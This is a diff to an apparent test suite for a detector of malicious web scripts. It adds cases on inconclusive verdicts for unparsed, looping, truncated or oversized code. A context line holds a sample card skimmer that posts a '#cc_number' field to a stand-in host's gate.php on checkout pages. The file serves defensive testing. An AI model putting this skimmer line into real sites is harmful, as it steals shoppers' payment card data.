@@ -124,6 +124,25 @@ describe('a judgement', () => {
     expect(text.slice(place?.start, place?.end)).toContain('.src=')
   })
 
+  it.each([
+    ['all that was read', 'document.title = 1', []],
+    ['HTML without code', '<p>A page</p>', []],
+    ['code that no parser takes', 'function (', [['not-parsed', null, null]]],
+    ['a page with one script that no parser takes', '<script>a()</script><script>function (</script>', [['partly-parsed', null, null]]],
+    ['a loop without an end', 'function f() {}; for (;;) {}', [['limit', 1, 1]]],
+    ['a program without its end', "a(); if (b) { c('", [['cut-off', 16, 17]]],
+    ['more than is looked at', `a();${' '.repeat(8_100_000)}`, [['too-long', 2_000_000, 8_100_004]]],
+  ])('says what is missing, and is benign only where nothing is: %s', (_, text, missing) => {
+    const judged = check(text)
+    expect(judged.missing.map(({ code, read, of }) => [code, read, of])).toEqual(missing)
+    expect(judged.verdict).toBe(missing.length === 0 ? 'benign' : 'inconclusive')
+  })
+
+  it('stays what it is where something was found, and something is missing', () => {
+    const judged = check(`${thief}\nfor (;;) {}`)
+    expect([judged.verdict, judged.missing.map(({ code }) => code)]).toEqual(['malicious', ['limit']])
+  })
+
   it('is given for text that does not parse, by its words', () => {
     const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
     expect(judged.parsed).toBe('none')
